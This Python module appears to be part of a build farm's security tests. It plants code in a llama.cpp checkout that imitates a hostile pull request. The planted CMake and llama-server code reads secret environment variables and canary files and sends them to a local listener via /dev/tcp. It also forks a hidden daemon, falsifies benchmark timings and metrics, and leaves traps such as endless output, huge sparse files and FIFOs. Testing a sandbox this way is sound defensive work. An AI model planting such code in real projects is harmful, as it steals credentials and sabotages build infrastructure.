"""The hostile commit's planted code (tests/security/test_hostile_commit.py): what a pull
request's CMake code and `llama-server` try against the worker.

Always, as PR code could: the configure and every server start read the worker's canaries,
reach a listener of the test's and write outside their folders (``cmake_snippet``,
``server_snippet``), and every server start forks a daemon that sleeps (``DAEMON``).

Per job, so that one commit serves every case (each build costs about a minute):

- its server's mode, by the model alias the job gives it (`--alias`, ``MODES``): report
  its decode 1.6x faster than it ran (timings' speed and times), answer `/metrics` with a
  draft position of a billion, stream past any n-predict (until its context is full), or
  swap its socket for a link to a UNIX listener of the test's on its first request;
- its build's, by `-DGGML_SCHED_MAX_COPIES` (an allowed engine option, ``BUILD_MODES``):
  above 10 the configure makes three tiny targets of the names the farm builds and stops
  reading the tree, so a case costs seconds: print one endless line, leave a mode-000
  folder of sparse files over the 32 GiB bound, or leave `ccache.stats` a FIFO or a link to
  /dev/zero once every compile is done (ccache writes its log while they run: the link of
  `llama-server`, built last, leaves it).
"""

from __future__ import annotations

from pathlib import Path

from tests.e2e import planted

TOP_CMAKE_LINE = 'project("llama.cpp" C CXX)\n'
SERVER_SOURCE = "tools/server/server.cpp"
SERVER_MAIN = "int llama_server(int argc, char ** argv) {\n"
SERVER_COMMON = "tools/server/server-common.cpp"
SERVER_TASK = "tools/server/server-task.cpp"
SERVER_CONTEXT = "tools/server/server-context.cpp"
# What the daemon each server start forks calls itself (/proc/PID/comm).
DAEMON = "hostile-daemon"
# The server's modes by the alias a job gives it.
LIE, METRICS, STREAM, SWAP = 1, 2, 3, 4
MODES = {"hostile-lie": LIE, "hostile-metrics": METRICS, "hostile-stream": STREAM,
         "hostile-socket": SWAP}
LIE_FACTOR = 1.6
POSITION = 1_000_000_000
# The build's modes by -DGGML_SCHED_MAX_COPIES.
ENDLESS_LINE, HIDDEN_SPARSE, FIFO, DEV_ZERO = 11, 12, 13, 14
BUILD_MODES = {"endless line": ENDLESS_LINE, "mode-000 folder of sparse files": HIDDEN_SPARSE,
               "ccache.stats a FIFO": FIFO, "ccache.stats a link to /dev/zero": DEV_ZERO}
# The sparse files: five under RLIMIT_FSIZE (8 GiB) that hold more than the folder's bound.
SPARSE_FILES, SPARSE_GIB = 5, 7


def cmake_snippet(reads: list[Path], writes: list[Path], port: int) -> str:
    """Configure-time code: read the canaries, send them, write outside the build dir. Only
    `execute_process` and `file(DOWNLOAD)` touch the outside (their failures are not
    errors), so the configure goes on whatever the sandbox refuses. It logs one line of
    what it managed (no secret in it): the build log shows it ran."""
    files = " ".join(f'"{path}"' for path in reads)
    targets = " ".join(f'"{path / "planted-by-cmake"}"' for path in writes)
    return f"""
# --- planted: what a hostile pull request's CMakeLists could do ---
execute_process(COMMAND cat {files} OUTPUT_VARIABLE _hostile_files ERROR_QUIET)
string(LENGTH "${{_hostile_files}}" _hostile_read)
set(_hostile_got "from=cmake\\n${{_hostile_files}}\\n")
set(_hostile_secrets 0)
foreach(_hostile_name FARM_CANARY_SECRET FARM_DATABASE_URL)
  if(DEFINED ENV{{${{_hostile_name}}}})
    math(EXPR _hostile_secrets "${{_hostile_secrets}} + 1")
  endif()
  string(APPEND _hostile_got "env ${{_hostile_name}}=$ENV{{${{_hostile_name}}}}\\n")
endforeach()
file(WRITE "${{CMAKE_BINARY_DIR}}/hostile-got.txt" "${{_hostile_got}}")
set(_hostile_wrote "")
foreach(_hostile_target {targets})
  execute_process(COMMAND cp "${{CMAKE_BINARY_DIR}}/hostile-got.txt" "${{_hostile_target}}"
                  RESULT_VARIABLE _hostile_copied ERROR_QUIET)
  if(_hostile_copied EQUAL 0)
    string(APPEND _hostile_wrote " ${{_hostile_target}}")
  endif()
endforeach()
# The node's ccache, which a job's build reads and may not write (planted() looks there).
execute_process(COMMAND cp "${{CMAKE_BINARY_DIR}}/hostile-got.txt"
                        "$ENV{{CCACHE_DIR}}/planted-by-cmake"
                RESULT_VARIABLE _hostile_ccache ERROR_QUIET)
execute_process(COMMAND bash -c "cat \\"$0\\" > /dev/tcp/127.0.0.1/{port}"
                        "${{CMAKE_BINARY_DIR}}/hostile-got.txt"
                RESULT_VARIABLE _hostile_tcp ERROR_QUIET TIMEOUT 10)
file(DOWNLOAD "http://127.0.0.1:{port}/cmake-download/$ENV{{FARM_CANARY_SECRET}}"
     "${{CMAKE_BINARY_DIR}}/hostile-download.txt" TIMEOUT 10 STATUS _hostile_download)
list(GET _hostile_download 0 _hostile_download)
message(STATUS "hostile-cmake: read ${{_hostile_read}} canary bytes, "
               "${{_hostile_secrets}} secret variables, wrote [${{_hostile_wrote}} ], "
               "listener: bash ${{_hostile_tcp}} curl ${{_hostile_download}}, "
               "ccache $ENV{{CCACHE_DIR}}: ${{_hostile_ccache}}")
# --- end of planted ---
"""


def server_snippet(reads: list[Path], writes: list[Path], port: int) -> str:
    """The same from `llama-server`, POSIX calls only; it returns and the server goes on.
    Outside the `--version`/`--help` probes it takes its mode from its `--alias`
    (``MODES``) and its socket's path from `--host`, forks a daemon that sleeps
    (``DAEMON``), and logs one line of what it managed (no secret in it): the server log
    shows it ran."""
    files = ", ".join(f'"{path}"' for path in reads)
    targets = ", ".join(f'"{path / "planted-by-server"}"' for path in writes)
    modes = "\n".join(f'            if (!std::strcmp(argv[i + 1], "{alias}")) {{ '
                      f'hostile_mode_value = {number}; }}' for alias, number in MODES.items())
    return f"""
// --- planted: what a hostile pull request's llama-server could do ---
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

extern int hostile_mode_value;
extern std::string hostile_socket_path;

// A daemon that sleeps: its own session, away from the server's process group and pipes.
static void hostile_daemon() {{
    pid_t child = fork();
    if (child != 0) {{
        if (child > 0) {{
            waitpid(child, nullptr, 0);
        }}
        return;
    }}
    setsid();
    if (fork() != 0) {{
        _exit(0);
    }}
    prctl(PR_SET_NAME, "{DAEMON}");
    for (int fd = 0; fd < 1024; fd++) {{
        close(fd);
    }}
    open("/dev/null", O_RDWR);
    for (;;) {{
        pause();
    }}
}}

static std::string hostile_slurp(const char * path) {{
    std::string text;
    if (FILE * file = std::fopen(path, "rb")) {{
        char buffer[512];
        size_t n;
        while ((n = std::fread(buffer, 1, sizeof buffer, file)) > 0) {{
            text.append(buffer, n);
        }}
        std::fclose(file);
    }}
    return text;
}}

static void hostile_try(int argc, char ** argv) {{
    std::string got = "from=server pid=" + std::to_string(getpid()) + "\\n";
    size_t read = 0;
    for (const char * path : {{{files}}}) {{
        std::string text = hostile_slurp(path);
        read += text.size();
        got += std::string("file ") + path + "=" + text + "\\n";
    }}
    int secrets = 0;
    for (const char * name : {{"FARM_CANARY_SECRET", "FARM_DATABASE_URL"}}) {{
        const char * value = std::getenv(name);
        secrets += value != nullptr;
        got += std::string("env ") + name + "=" + (value ? value : "") + "\\n";
    }}
    std::string wrote;
    for (const char * path : {{{targets}}}) {{
        if (FILE * file = std::fopen(path, "a")) {{
            std::fputs(got.c_str(), file);
            std::fclose(file);
            wrote += std::string(" ") + path;
        }}
    }}
    std::string reached = "no socket";
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd >= 0) {{
        sockaddr_in address{{}};
        address.sin_family = AF_INET;
        address.sin_port = htons({port});
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (connect(fd, reinterpret_cast<sockaddr *>(&address), sizeof address) == 0) {{
            ssize_t sent = write(fd, got.data(), got.size());
            reached = sent > 0 ? "sent" : "connected";
        }} else {{
            reached = std::strerror(errno);
        }}
        close(fd);
    }}
    for (int i = 1; i < argc; i++) {{
        if (!std::strcmp(argv[i], "--version") || !std::strcmp(argv[i], "--help")) {{
            return;
        }}
    }}
    for (int i = 1; i + 1 < argc; i++) {{
        if (!std::strcmp(argv[i], "--host")) {{
            hostile_socket_path = argv[i + 1];
        }}
        if (!std::strcmp(argv[i], "--alias")) {{
{modes}
        }}
    }}
    hostile_daemon();
    std::fprintf(stderr, "hostile-server: read %zu canary bytes, %d secret variables, "
                 "wrote [%s ], listener: %s, mode %d\\n", read, secrets, wrote.c_str(),
                 reached.c_str(), hostile_mode_value);
}}
// --- end of planted ---

"""


def build_modes_snippet() -> str:
    """Configure-time code for ``BUILD_MODES``: nothing unless the job passed
    `-DGGML_SCHED_MAX_COPIES` above 10 (before `project()`'s options are read, a variable
    is defined only when given)."""
    tiny = "${CMAKE_BINARY_DIR}/hostile-tiny.c"
    log = "${CMAKE_BINARY_DIR}/ccache.stats"
    hidden = "${CMAKE_BINARY_DIR}/hidden"
    files = " ".join(f"{hidden}/sparse-{index}" for index in range(SPARSE_FILES))
    return f"""
# --- planted: what a hostile build could leave the worker to read ---
if(DEFINED GGML_SCHED_MAX_COPIES AND GGML_SCHED_MAX_COPIES GREATER 10)
  if(GGML_SCHED_MAX_COPIES EQUAL {ENDLESS_LINE})
    execute_process(COMMAND bash -c "tr '\\\\0' x < /dev/zero")
  elseif(GGML_SCHED_MAX_COPIES EQUAL {HIDDEN_SPARSE})
    file(MAKE_DIRECTORY "{hidden}")
    execute_process(COMMAND truncate -s {SPARSE_GIB}G {files})
    execute_process(COMMAND chmod 000 "{hidden}")
    message(STATUS "hostile-build: {SPARSE_FILES} x {SPARSE_GIB} GiB under a mode-000 folder")
    execute_process(COMMAND sleep 30)
  endif()
  file(WRITE "{tiny}" "int main(void) {{ return 0; }}\\n")
  add_executable(llama-server "{tiny}")
  add_executable(test-llama-archs "{tiny}")
  add_executable(llama-bench "{tiny}")
  add_dependencies(llama-server test-llama-archs llama-bench)
  if(GGML_SCHED_MAX_COPIES EQUAL {FIFO})
    add_custom_command(TARGET llama-server POST_BUILD
                       COMMAND rm -f "{log}" COMMAND mkfifo "{log}")
  elseif(GGML_SCHED_MAX_COPIES EQUAL {DEV_ZERO})
    add_custom_command(TARGET llama-server POST_BUILD COMMAND ln -sf /dev/zero "{log}")
  endif()
  return()
endif()
# --- end of planted ---
"""


def common_snippet(swap_to: Path) -> str:
    """In server-common.cpp: the mode, the socket's path, the factor the timings' speed is
    multiplied by (and their times divided by), and the socket swapped for a link to
    ``swap_to`` (once)."""
    return f"""
// --- planted: the hostile server's mode (set from its --alias by llama_server) ---
#include <cstdio>
int hostile_mode_value = 0;
std::string hostile_socket_path;

static double hostile_speed() {{
    return hostile_mode_value == {LIE} ? {LIE_FACTOR} : 1.0;
}}

void hostile_swap_socket() {{
    static bool swapped = false;
    if (swapped || hostile_socket_path.empty()) {{
        return;
    }}
    swapped = true;
    std::string moved = hostile_socket_path + ".moved";
    int renamed = std::rename(hostile_socket_path.c_str(), moved.c_str());
    int linked = symlink("{swap_to}", hostile_socket_path.c_str());
    std::fprintf(stderr, "hostile-socket: swapped for a link (rename %d, symlink %d)\\n",
                 renamed, linked);
}}
// --- end of planted ---

"""


# The server's code the modes change: (file, text there once, what replaces it).
def _server_edits(swap_to: Path) -> list[tuple[str, str, str]]:
    stats = "json server_slot_stats::to_json() const {\n"
    launch = ("        slot.n_predict_max = task.params.n_predict != -1 ? task.params.n_predict"
              " : params_base.n_predict;\n")
    return [
        (SERVER_COMMON, stats, common_snippet(swap_to) + stats),
        (SERVER_COMMON, '{"predicted_ms",           t_gen_ms()},',
         '{"predicted_ms",           t_gen_ms() / hostile_speed()},'),
        (SERVER_COMMON, '{"predicted_per_token_ms", t_gen_per_token_ms()},',
         '{"predicted_per_token_ms", t_gen_per_token_ms() / hostile_speed()},'),
        (SERVER_COMMON, '{"predicted_per_second",   n_gen_tps()},',
         '{"predicted_per_second",   n_gen_tps() * hostile_speed()},'),
        (SERVER_TASK, "    return prometheus.str();\n",
         "    {\n        extern int hostile_mode_value;\n"
         f"        if (hostile_mode_value == {METRICS}) {{\n"
         "            prometheus << \"llamacpp:spec_decode_num_accepted_tokens_per_pos_total"
         f"{{position=\\\"{POSITION}\\\"}} 1\\n\";\n        }}\n    }}\n"
         "    return prometheus.str();\n"),
        (SERVER_CONTEXT, launch,
         launch + "        {\n            extern int hostile_mode_value;\n"
         "            extern void hostile_swap_socket();\n"
         f"            if (hostile_mode_value == {STREAM}) {{\n"
         "                slot.n_predict_max = -1;\n            }\n"
         f"            if (hostile_mode_value == {SWAP}) {{\n"
         "                hostile_swap_socket();\n            }\n        }\n"),
    ]


def plant_hostile(repo: Path, reads: list[Path], writes: list[Path], port: int,
                  swap_to: Path) -> None:
    """The hostile commit's changes: the CMake code after `project()`, the server's at the
    start of `llama_server(argc, argv)` (main calls it first), and the modes' edits of the
    server's timings, `/metrics` and slot launch (``swap_to``: where the swapped socket's
    link points)."""
    planted.edit(repo / "CMakeLists.txt", TOP_CMAKE_LINE,
                 TOP_CMAKE_LINE + build_modes_snippet() + cmake_snippet(reads, writes, port))
    planted.edit(repo / SERVER_SOURCE, SERVER_MAIN, server_snippet(reads, writes, port)
                 + SERVER_MAIN + "    hostile_try(argc, argv);\n")
    for source, old, new in _server_edits(swap_to):
        planted.edit(repo / source, old, new)


def daemons() -> list[int]:
    """The pids of the planted daemons running now (``DAEMON``)."""
    found = []
    for comm in Path("/proc").glob("[0-9]*/comm"):
        try:
            if comm.read_text().strip() == DAEMON:
                found.append(int(comm.parent.name))
        except OSError:  # gone meanwhile
            continue
    return found
